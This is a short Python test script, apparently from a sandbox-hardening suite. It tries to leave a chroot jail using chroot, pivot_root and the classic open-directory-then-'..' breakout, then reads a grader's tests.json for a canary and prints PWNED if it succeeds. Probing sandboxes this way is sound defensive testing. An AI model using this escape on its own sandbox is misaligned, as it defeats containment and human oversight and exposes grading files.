"""Leave the sandbox's root: chroot, pivot_root, and the classical way out of a chroot with an open folder.

Shows: PWNED on stdout.
"""

import os
from contextlib import suppress

from kit import pwned, syscall, told

os.makedirs("inner/old", exist_ok=True)
outer = os.open("/", os.O_PATH)
for name, result in {
    "chroot": syscall("chroot", b"inner"),
    "pivot_root": syscall("pivot_root", b"inner", b"inner/old"),
}.items():
    print(name, told(result))
    if result >= 0:
        pwned(name)
with suppress(OSError):
    os.fchdir(outer)
    for _ in range(64):
        os.chdir("..")
    with open("." + "@VICTIM@/grader/tests.json") as file:
        if "CANARY" in file.read():
            pwned("the way out")
